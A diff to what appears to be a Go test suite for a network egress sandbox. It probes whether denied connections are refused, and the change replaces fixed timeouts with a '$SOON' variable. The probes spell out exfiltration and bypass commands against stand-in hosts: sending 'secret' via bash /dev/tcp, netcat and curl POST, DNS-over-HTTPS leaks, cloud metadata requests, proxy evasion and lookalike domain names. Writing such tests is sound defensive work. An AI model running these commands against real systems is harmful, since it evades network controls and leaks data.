@@ -63,8 +63,8 @@ const (
 	noName   = `not resolve|not known|ENOTFOUND|no such host|NXDOMAIN|Name or service|RCodeNameError|no address`
 	notMine  = `operation not permitted|Operation not permitted|permission denied|Permission denied|EPERM|EACCES|Read-only|read-only`
 	atOnce   = `refused after [0-2]?[0-9.]{1,6}m?s: ` // the program never hangs
-	httpOK   = `curl -sS --max-time 8 http://allowed.example.com/`
-	httpsOK  = `curl -sSk --max-time 8 https://allowed.example.com/`
+	httpOK   = `curl -sS --max-time $SOON http://allowed.example.com/`
+	httpsOK  = `curl -sSk --max-time $SOON https://allowed.example.com/`
 	pythonOK = `python3 -c 'import urllib.request as u; u.urlopen("http://allowed.example.com/", timeout=8)'`
 )
 
@@ -121,7 +121,7 @@ func rawProbes() []probe {
 		{"ip", "ip rule add from all lookup main pref 0"}, {"ip", "ip link set lo down"}, {"ip", "ip netns add x"}, {"conntrack", "conntrack -F"}, {"sysctl", "sysctl -w net.ipv4.ip_forward=1"}, {"tcpdump", "tcpdump -c1 -i lo"},
 	} {
 		probes = append(probes, probe{
-			id: "A13" + string(rune('a'+i)), what: "change or watch the network: " + tool[1], needs: tool[0], run: "timeout 5 " + tool[1] + "; [ $? = 0 ] || exit 1", control: "ip addr show lo",
+			id: "A13" + string(rune('a'+i)), what: "change or watch the network: " + tool[1], needs: tool[0], run: "timeout $SOON " + tool[1] + "; [ $? = 0 ] || exit 1", control: "ip addr show lo",
 			refused: notMine + `|Protocol not supported|supported|dump|not allowed`,
 		})
 	}
@@ -161,7 +161,7 @@ func (p probe) as(column string) probe {
 // nameProbes go to names that are not allowed, with the clients that people use.
 func nameProbes() []probe {
 	probes := []probe{
-		named("A1a", "curl, past every proxy variable", "curl", `unset http_proxy https_proxy ALL_PROXY; curl -sSk --noproxy '*' --max-time 8 https://a1a.example.com/`, "a1a.example.com", "default", httpsOK),
+		named("A1a", "curl, past every proxy variable", "curl", `unset http_proxy https_proxy ALL_PROXY; curl -sSk --noproxy '*' --max-time $SOON https://a1a.example.com/`, "a1a.example.com", "default", httpsOK),
 		named("A1b", "python", "python3", `python3 -c 'import urllib.request as u; u.urlopen("http://a1b.example.com/?secret", timeout=8)'`, "a1b.example.com", "default", pythonOK),
 		named("A1c", "node", "node", `node -e 'fetch("http://a1c.example.com/").then(r=>console.log(r.status),e=>{console.log(e.cause);process.exit(1)})'`, "a1c.example.com", "default",
 			`node -e 'fetch("http://allowed.example.com/").then(r=>console.log(r.status),e=>{console.log(e.cause);process.exit(1)})'`),
@@ -170,35 +170,35 @@ func nameProbes() []probe {
 		named("A1f", "bash's own sockets", "bash", `bash -c 'exec 3<>/dev/tcp/a1f.example.com/80; echo secret >&3; head -c5 <&3'`, "a1f.example.com", "default", httpOK),
 		named("A1g", "netcat", "nc", `echo secret | nc -w 5 a1g.example.com 80 | grep .`, "a1g.example.com", "default", httpOK),
 		named("A1h", "ssh", "ssh", `ssh -o BatchMode=yes -o ConnectTimeout=5 a1h.example.com true`, "a1h.example.com", "default", httpOK),
-		named("A6a", "another user inside", "setpriv", `setpriv --reuid 33 --regid 33 --clear-groups curl -sS --max-time 8 http://a6a.example.com/`, "a6a.example.com", "default",
-			`setpriv --reuid 33 --regid 33 --clear-groups curl -sS --max-time 8 http://allowed.example.com/`).as("root"),
-		named("A6b", "a daemon that left its parents", "setsid", `setsid sh -c 'curl -sS --max-time 8 http://a6b.example.com/ >o 2>&1; echo $? >r' & sleep 1.5; cat o; exit $(cat r)`, "a6b.example.com", "default", httpOK),
-		named("A6c", "a changed root", "chroot", `chroot / curl -sS --max-time 8 http://a6c.example.com/`, "a6c.example.com", "default", `chroot / `+httpOK),
-		named("A7", "plain HTTP", "curl", `curl -sS --max-time 8 -d secret http://a7.example.com/`, "a7.example.com", "default", httpOK),
-		named("A10k", "the names of the machine in containers", "curl", `curl -sS --max-time 8 http://host.docker.internal:8080/`, "host.docker.internal", "default", httpOK),
-		named("A10l", "the metadata service by name", "curl", `curl -sS --max-time 8 http://metadata.google.internal/`, "metadata.google.internal", "default", httpOK),
-		named("A26a", "an allowed address for another name (curl --resolve)", "curl", `curl -sSk --max-time 8 --resolve a26a.example.com:443:$(getent ahostsv4 allowed.example.com | awk 'NR==1{print $1}') https://a26a.example.com/`,
+		named("A6a", "another user inside", "setpriv", `setpriv --reuid 33 --regid 33 --clear-groups curl -sS --max-time $SOON http://a6a.example.com/`, "a6a.example.com", "default",
+			`setpriv --reuid 33 --regid 33 --clear-groups curl -sS --max-time $SOON http://allowed.example.com/`).as("root"),
+		named("A6b", "a daemon that left its parents", "setsid", `setsid sh -c 'curl -sS --max-time $SOON http://a6b.example.com/ >o 2>&1; echo $? >r' & until [ -s r ] || [ $((i=i+1)) -gt 100 ]; do sleep 0.2; done; cat o; exit $(cat r)`, "a6b.example.com", "default", httpOK),
+		named("A6c", "a changed root", "chroot", `chroot / curl -sS --max-time $SOON http://a6c.example.com/`, "a6c.example.com", "default", `chroot / `+httpOK),
+		named("A7", "plain HTTP", "curl", `curl -sS --max-time $SOON -d secret http://a7.example.com/`, "a7.example.com", "default", httpOK),
+		named("A10k", "the names of the machine in containers", "curl", `curl -sS --max-time $SOON http://host.docker.internal:8080/`, "host.docker.internal", "default", httpOK),
+		named("A10l", "the metadata service by name", "curl", `curl -sS --max-time $SOON http://metadata.google.internal/`, "metadata.google.internal", "default", httpOK),
+		named("A26a", "an allowed address for another name (curl --resolve)", "curl", `curl -sSk --max-time $SOON --resolve a26a.example.com:443:$(getent ahostsv4 allowed.example.com | awk 'NR==1{print $1}') https://a26a.example.com/`,
 			"allowed.example.com", "name-mismatch", httpsOK),
-		named("A26b", "an allowed connection for another name (curl --connect-to)", "curl", `curl -sSk --max-time 8 --connect-to a26b.example.com:443:other.example.com:443 https://a26b.example.com/`, "other.example.com", "name-mismatch", httpsOK),
-		named("A26c", "/etc/hosts of one's own", "curl", `curl -sS --max-time 8 --resolve a26c.example.com:80:8.8.5.1 http://a26c.example.com/`, "", "raw-address", httpOK).at("8.8.5.1"),
-		named("A31", "a redirect from an allowed place to a denied one", "curl", `curl -sSL --max-time 8 http://allowed.example.com/redirect`, "denied.example.com", "default", httpOK),
-		named("B5a", "DNS over HTTPS to a resolver below an allowed wildcard", "curl", `curl -sSk --max-time 8 'https://mozilla.cloudflare-dns.com/dns-query?name=s3cret'`, "mozilla.cloudflare-dns.com", "encrypted-dns", httpsOK),
-		named("B5b", "DNS over HTTPS", "curl", `curl -sSk --max-time 8 https://dns.google/resolve?name=s3cret`, "dns.google", "encrypted-dns", httpsOK),
-		named("B12a", "a name that an allowed one is the beginning of", "curl", `curl -sS --max-time 8 http://allowed.example.com.evil.example.org/`, "allowed.example.com.evil.example.org", "default", httpOK),
-		named("B12b", "a name that ends like an allowed one", "curl", `curl -sS --max-time 8 http://notallowed.example.com/`, "notallowed.example.com", "default", httpOK),
-		named("B12c", "a name that ends like an allowed wildcard", "curl", `curl -sS --max-time 8 http://xwild.example.com/`, "xwild.example.com", "default", "curl -sS --max-time 8 http://x.wild.example.com/"),
-		named("B12d", "the apex of an allowed wildcard", "curl", `curl -sS --max-time 8 http://wild.example.com/`, "wild.example.com", "default", "curl -sS --max-time 8 http://y.wild.example.com/"),
-		named("B12e", "below an allowed name", "curl", `curl -sS --max-time 8 http://sub.allowed.example.com/`, "sub.allowed.example.com", "default", httpOK),
-		named("B12f", "user information in a URL", "curl", `curl -sS --max-time 8 http://allowed.example.com@b12f.example.org/`, "b12f.example.org", "default", httpOK),
-		named("B12g", "a denied name below an allowed wildcard", "curl", `curl -sS --max-time 8 http://bad.wild.example.com/`, "bad.wild.example.com", "--deny bad.wild.example.com", "curl -sS --max-time 8 http://z.wild.example.com/"),
-		named("B13a", "a name that looks like an allowed one (punycode)", "curl", `curl -sS --max-time 8 http://xn--llowed-2nf.example.com/`, "xn--llowed-2nf.example.com", "default", "curl -sS --max-time 8 http://ALLOWED.example.com./"),
+		named("A26b", "an allowed connection for another name (curl --connect-to)", "curl", `curl -sSk --max-time $SOON --connect-to a26b.example.com:443:other.example.com:443 https://a26b.example.com/`, "other.example.com", "name-mismatch", httpsOK),
+		named("A26c", "/etc/hosts of one's own", "curl", `curl -sS --max-time $SOON --resolve a26c.example.com:80:8.8.5.1 http://a26c.example.com/`, "", "raw-address", httpOK).at("8.8.5.1"),
+		named("A31", "a redirect from an allowed place to a denied one", "curl", `curl -sSL --max-time $SOON http://allowed.example.com/redirect`, "denied.example.com", "default", httpOK),
+		named("B5a", "DNS over HTTPS to a resolver below an allowed wildcard", "curl", `curl -sSk --max-time $SOON 'https://mozilla.cloudflare-dns.com/dns-query?name=s3cret'`, "mozilla.cloudflare-dns.com", "encrypted-dns", httpsOK),
+		named("B5b", "DNS over HTTPS", "curl", `curl -sSk --max-time $SOON https://dns.google/resolve?name=s3cret`, "dns.google", "encrypted-dns", httpsOK),
+		named("B12a", "a name that an allowed one is the beginning of", "curl", `curl -sS --max-time $SOON http://allowed.example.com.evil.example.org/`, "allowed.example.com.evil.example.org", "default", httpOK),
+		named("B12b", "a name that ends like an allowed one", "curl", `curl -sS --max-time $SOON http://notallowed.example.com/`, "notallowed.example.com", "default", httpOK),
+		named("B12c", "a name that ends like an allowed wildcard", "curl", `curl -sS --max-time $SOON http://xwild.example.com/`, "xwild.example.com", "default", "curl -sS --max-time $SOON http://x.wild.example.com/"),
+		named("B12d", "the apex of an allowed wildcard", "curl", `curl -sS --max-time $SOON http://wild.example.com/`, "wild.example.com", "default", "curl -sS --max-time $SOON http://y.wild.example.com/"),
+		named("B12e", "below an allowed name", "curl", `curl -sS --max-time $SOON http://sub.allowed.example.com/`, "sub.allowed.example.com", "default", httpOK),
+		named("B12f", "user information in a URL", "curl", `curl -sS --max-time $SOON http://allowed.example.com@b12f.example.org/`, "b12f.example.org", "default", httpOK),
+		named("B12g", "a denied name below an allowed wildcard", "curl", `curl -sS --max-time $SOON http://bad.wild.example.com/`, "bad.wild.example.com", "--deny bad.wild.example.com", "curl -sS --max-time $SOON http://z.wild.example.com/"),
+		named("B13a", "a name that looks like an allowed one (punycode)", "curl", `curl -sS --max-time $SOON http://xn--llowed-2nf.example.com/`, "xn--llowed-2nf.example.com", "default", "curl -sS --max-time $SOON http://ALLOWED.example.com./"),
 		named("A9x", "another port of an allowed name", "curl", `$A tcp allowed.example.com:5432`, "allowed.example.com", "default", httpOK),
 		named("A9y", "the mail port of an allowed name", "curl", `$A tcp allowed.example.com:25`, "allowed.example.com", "default", httpOK),
 		named("A9z", "another port of a name that is allowed for any bytes", "curl", `$A tcp opaque.example.com:22`, "opaque.example.com", "default", "$A tcp opaque.example.com:9000 hello"),
 	}
 	for i := range 6 {
 		name := randomLabel() + "." + randomLabel() + ".example.org"
-		probes = append(probes, named(fmt.Sprintf("B1r%d", i), "a random name", "", `curl -sS --max-time 8 http://`+name+`/`, name, "default", httpOK))
+		probes = append(probes, named(fmt.Sprintf("B1r%d", i), "a random name", "", `curl -sS --max-time $SOON http://`+name+`/`, name, "default", httpOK))
 	}
 	return probes
 }
@@ -214,16 +214,16 @@ func randomLabel() string {
 // addressProbes reach special addresses through names that are allowed.
 func addressProbes() []probe {
 	probes := []probe{
-		named("B8a", "an allowed name that resolves to loopback", "curl", "curl -sSf --max-time 8 http://inward.example.com/ || { echo refused; exit 1; }", "inward.example.com", "special-address", httpOK),
+		named("B8a", "an allowed name that resolves to loopback", "curl", "curl -sSf --max-time $SOON http://inward.example.com/ || { echo refused; exit 1; }", "inward.example.com", "special-address", httpOK),
 		// One of its three addresses may be dialled: this is a control by itself. That nothing reached the others is seen in the world.
-		{id: "B8b", what: "an allowed name that resolves to loopback, a private and a public address", run: `curl -sS --max-time 8 http://mixed.example.com/ && echo "only the public one was dialled" && exit 1`, refused: "only the public", control: httpOK},
+		{id: "B8b", what: "an allowed name that resolves to loopback, a private and a public address", run: `curl -sS --max-time $SOON http://mixed.example.com/ && echo "only the public one was dialled" && exit 1`, refused: "only the public", control: httpOK},
 	}
 	for i, block := range specialBlocks() {
 		a := randomIn(block)
 		name := hex.EncodeToString(a.AsSlice()) + ".addr.example.com"
 		probes = append(probes, probe{
 			id: fmt.Sprintf("B16-%02d", i), what: fmt.Sprintf("an allowed name that resolves into %s", block), run: "$A tcp " + name + ":80 'GET / HTTP/1.1\r\nHost: " + name + "\r\n\r\n' | grep -q world", refused: "",
-			control: "curl -sS --max-time 8 http://5db8d823.addr.example.com/", record: &event{Host: name, Address: unmapped(a), Rule: "special-address"},
+			control: "curl -sS --max-time $SOON http://5db8d823.addr.example.com/", record: &event{Host: name, Address: unmapped(a), Rule: "special-address"},
 		})
 	}
 	return probes
